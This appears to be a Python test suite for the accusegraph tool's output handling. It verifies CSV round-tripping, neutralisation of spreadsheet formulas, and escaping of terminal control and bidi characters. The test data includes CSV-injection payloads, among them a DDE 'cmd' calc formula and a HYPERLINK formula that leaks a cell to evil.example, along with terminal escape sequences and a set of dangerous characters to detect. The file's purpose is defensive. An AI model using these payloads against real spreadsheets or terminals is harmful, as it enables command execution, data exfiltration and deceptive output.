"""Hostile text in outputs (issue 16): CSV that parses back, no spreadsheet formulas, no terminal escapes.

- CSV (the neo4j-admin export and `--format csv`) quotes every field that holds a
  carriage return or a line feed, so Python's csv module reads each row back with
  the right number of columns.
- CSV meant for spreadsheets (`--format csv` of the table commands, and the export
  with `--spreadsheet-safe`) starts a text cell beginning with =, +, -, @, a tab or
  a carriage return with a single quote (OWASP); numbers stay numbers. The export
  for neo4j-admin stays exact by default: it is imported, not opened.
- Tables for people show control characters (C0, DEL, C1) and bidi overrides as
  visible escapes and never read stored text as rich markup; JSON and CSV keep
  the text exactly.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from accusegraph.graph.export import export_claims
from accusegraph.output import render_rows, to_text
from factories import make_actor, make_claim, make_source
from test_cli import db_env, run
from test_export import neo4j_admin_import

# Each of these broke a CSV row or hid a formula or a terminal command.
CR_NAME = "Evil\rCorp"
MIXED_NAME = 'Mixed\r\n"Quoted", comma\nand\rmore'
FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")']
ESCAPES = ["\x1b[2J\x1b[Hcleared", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
           "\x1b[31mred\x1b[0m", "bell\x07", "csi\x9b31m", "del\x7f", "\u202eevil\u202c", "iso\u2066x\u2069",
           "nul\x00byte", "back\bspace"]
MARKUP = ["[/foo] closing tag", "[link=http://evil.example/]click[/link]", "[bold red]loud[/]", ":smile:"]
DANGEROUS = {chr(c) for c in range(0x20)} | {"\x7f"} | {chr(c) for c in range(0x80, 0xA0)} \
    | {chr(c) for c in range(0x202A, 0x202F)} | {chr(c) for c in range(0x2066, 0x206A)}


def run_exact(*args: str, env: dict):
    """`accusegraph ARGS` with stdout as it was written (`run` reads text, turning CR into LF)."""
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("NEO4J_")} | env
    result = subprocess.run([sys.executable, "-m", "accusegraph", *args], capture_output=True, env=full_env,
                            timeout=300)
    return result.returncode, result.stdout.decode("utf-8"), result.stderr.decode("utf-8", "replace")


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ------------------------------------------------------------------ item 8: CSV rows stay rows

@pytest.mark.parametrize("name", [CR_NAME, MIXED_NAME, "trailing\r", "\rleading-cr"])
def test_query_csv_reads_back_with_the_right_columns(name):
    text = to_text(["actor", "n", "target"], [[name, 3, "B"], ["A", -1, name]], "csv")
    rows = _csv_rows(text)
    assert [len(r) for r in rows] == [3, 3, 3], repr(text)
    # a leading carriage return is a formula trigger, so that one value carries the guard
    expected = name if not name.startswith("\r") else "'" + name
    assert rows[1] == [expected, "3", "B"] and rows[2] == ["A", "-1", expected]


@pytest.mark.parametrize("name", [CR_NAME, MIXED_NAME])
def test_export_csv_reads_back_with_the_right_columns(tmp_path, name):
    actor = make_actor(name, kind="group")
    source = make_source(publisher=f"Press\r{name}", title=f"Title\r{name}")
    export_claims([make_claim(actor, "accuse", make_actor("Target Ltd"), source=source,
                              quote=f"{name} accused Target Ltd.\r")], "csv", tmp_path)
    for file in sorted(tmp_path.glob("*.csv")):
        with file.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert len({len(r) for r in rows}) == 1, (file.name, rows)
    with (tmp_path / "actors.csv").open(encoding="utf-8", newline="") as fh:
        names = {row[1] for row in list(csv.reader(fh))[1:]}
    assert names == {name, "Target Ltd"}
    with (tmp_path / "sources.csv").open(encoding="utf-8", newline="") as fh:
        source_row = list(csv.reader(fh))[1]
    assert source_row[2:4] == [f"Title\r{name}", f"Press\r{name}"]


def test_neo4j_admin_imports_names_with_carriage_returns_as_one_row_each(tmp_path):
    claims = [make_claim(make_actor(name, kind="group"), "accuse", make_actor(f"Target {i}"),
                         source=make_source(f"https://cr.example/{i}", publisher=f"Press\r{i}", title=name),
                         quote=f"{name} accused Target {i}.\r")
              for i, name in enumerate([CR_NAME, MIXED_NAME, "trailing\r", "\rleading"])]
    # 8 actors, 4 claims, 4 sources, 4 evidence; MADE, AGAINST, REPORTED_IN, CITES and ACCUSES each 4
    assert neo4j_admin_import(claims, tmp_path) == (20, 20)


def test_csv_rows_still_end_in_a_line_feed():
    assert to_text(["a", "b"], [["x\ry", 1]], "csv") == 'a,b\n"x\ry",1\n'


# ------------------------------------------------------------------ item 9: no formulas in spreadsheets

def test_query_csv_neutralises_formulas_and_keeps_numbers():
    rows = [[text, -1, -1.5, "-1", "+2.5e3", "plain", None] for text in FORMULAS]
    parsed = _csv_rows(to_text(["cell", "int", "float", "numeric text", "signed", "text", "none"], rows, "csv"))
    for text, row in zip(FORMULAS, parsed[1:]):
        assert row == ["'" + text, "-1", "-1.5", "-1", "+2.5e3", "plain", ""], row


def test_json_keeps_formulas_exactly():
    rows = [[text] for text in FORMULAS]
    assert json.loads(to_text(["cell"], rows, "json")) == [{"cell": text} for text in FORMULAS]


def _hostile_claims():
    source = make_source("https://evil.example/feed", publisher=FORMULAS[6], title=FORMULAS[0])
    return [make_claim(make_actor(FORMULAS[2], kind="group"), "accuse", make_actor("@Target", kind="group"),
                       source=source, allegation=FORMULAS[3], quote="-1 said it.")]


def _read_folder(folder):
    out = {}
    for file in folder.glob("*.csv"):
        with file.open(encoding="utf-8", newline="") as fh:
            out[file.name] = list(csv.reader(fh))
    return out


def test_export_csv_for_neo4j_admin_stays_exact_by_default(tmp_path):
    export_claims(_hostile_claims(), "csv", tmp_path)
    files = _read_folder(tmp_path)
    assert {r[1] for r in files["actors.csv"][1:]} == {FORMULAS[2], "@Target"}
    assert files["sources.csv"][1][2:4] == [FORMULAS[0], FORMULAS[6]]


def _typed(column: str) -> bool:
    """A neo4j-admin column of numbers, booleans or dates (`start:int`), never guarded."""
    return column.partition(":")[2].split("(")[0] in ("int", "long", "float", "double", "boolean", "date")


def test_export_csv_spreadsheet_safe_guards_text_and_keeps_typed_columns(tmp_path):
    export_claims(_hostile_claims(), "csv", tmp_path / "exact")
    export_claims(_hostile_claims(), "csv", tmp_path / "safe", spreadsheet_safe=True)
    exact, safe = _read_folder(tmp_path / "exact"), _read_folder(tmp_path / "safe")
    assert exact.keys() == safe.keys()
    for name, rows in safe.items():
        header = rows[0]
        assert header == exact[name][0]
        for got, was in zip(rows[1:], exact[name][1:]):
            for column, g, w in zip(header, got, was):
                if w[:1] in ("=", "+", "-", "@", "\t", "\r") and not _typed(column):
                    assert g == "'" + w, (name, column, g)
                else:
                    assert g == w, (name, column, g)
    assert {r[1] for r in safe["actors.csv"][1:]} == {"'" + FORMULAS[2], "'@Target"}
    claim = dict(zip(safe["claims.csv"][0], safe["claims.csv"][1]))
    assert claim["quote"] == "'-1 said it." and claim["start:int"] == "0" and claim["allegation"] == "'" + FORMULAS[3]


def test_export_cli_offers_the_spreadsheet_flag(tmp_path):
    claims = tmp_path / "claims.jsonl"
    claims.write_text("".join(c.to_json() + "\n" for c in _hostile_claims()), encoding="utf-8")
    result = run("export", "-f", "csv", "--spreadsheet-safe", "--from", str(claims), "-o", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    assert {r[1] for r in _read_folder(tmp_path / "out")["actors.csv"][1:]} == {"'" + FORMULAS[2], "'@Target"}
    help_text = " ".join(run("export", "--help").stdout.split())
    assert "--spreadsheet-safe" in help_text and "neo4j-admin" in help_text


# ------------------------------------------------------------------ item 10: no terminal escapes

def test_table_shows_control_and_bidi_characters_as_visible_escapes():
    text = to_text(["name", "quote"], [[value, f"said: {value}"] for value in ESCAPES], "table")
    assert not DANGEROUS & (set(text) - {"\n"}), sorted(DANGEROUS & set(text))
    for shown in ("\\x1b[2J", "\\x1b]8;;http://evil.example/", "\\x07", "\\x9b", "\\x7f", "\\u202e",
                  "\\u2066", "\\x00", "\\x08"):
        assert shown in text, shown


def test_table_escapes_newlines_tabs_and_carriage_returns_too():
    text = to_text(["quote"], [["one\ntwo\tthree\rfour"]], "table")
    assert "one\\ntwo\\tthree\\rfour" in text and "\r" not in text and "\t" not in text


def test_table_never_reads_stored_text_as_markup():
    text = to_text(["name"], [[value] for value in MARKUP], "table")
    for value in MARKUP:
        assert value in text
    assert "\x1b" not in text


def test_json_and_csv_keep_control_characters_exactly():
    rows = [[value] for value in ESCAPES + MARKUP]
    assert [r["name"] for r in json.loads(to_text(["name"], rows, "json"))] == ESCAPES + MARKUP
    assert [r[0] for r in _csv_rows(to_text(["name"], rows, "csv"))[1:]] == ESCAPES + MARKUP


def test_table_titles_and_headers_are_escaped_too():
    buf = io.StringIO()
    render_rows(["col\x1b[2J"], [["x"]], "table", stream=buf, title="t\x1b]0;pwned\x07")
    assert "\x1b" not in buf.getvalue() and "\x07" not in buf.getvalue()


# ------------------------------------------------------------------ through the real database

@pytest.mark.neo4j
def test_hostile_names_through_load_and_query(empty_db, neo4j_conn, tmp_path):
    accuser = make_actor("Evil\rCorp \x1b[2J", kind="group")
    target = make_actor("=HYPERLINK(\"http://evil.example\")", kind="group")
    source = make_source("https://evil.example/a", publisher="@SUM(1)\u202e")
    claim = make_claim(accuser, "accuse", target, source=source, quote="Evil Corp accused them.")
    path = tmp_path / "claims.jsonl"
    path.write_text(claim.to_json() + "\n", encoding="utf-8")
    loaded = run("load", str(path), env=db_env(neo4j_conn))
    assert loaded.returncode == 0, loaded.stderr

    code, out, err = run_exact("query", "who-accused-whom", "-f", "csv", env=db_env(neo4j_conn))
    assert code == 0, err
    header, *rows = _csv_rows(out)
    assert len(rows) == 1 and len(rows[0]) == len(header)
    row = dict(zip(header, rows[0]))
    assert (row["actor"], row["target"], row["publisher"]) == (
        accuser.name, "'" + target.name, "'@SUM(1)\u202e")

    as_json = run("query", "who-accused-whom", "-f", "json", env=db_env(neo4j_conn))
    assert [(r["actor"], r["target"]) for r in json.loads(as_json.stdout)] == [(accuser.name, target.name)]

    code, table, err = run_exact("query", "who-accused-whom", env=db_env(neo4j_conn))
    assert code == 0, err
    assert not DANGEROUS & (set(table) - {"\n"})
    assert "Evil\\rCorp" in table and "\\x1b[2J" in table and "@SUM(1)\\u202e" in table
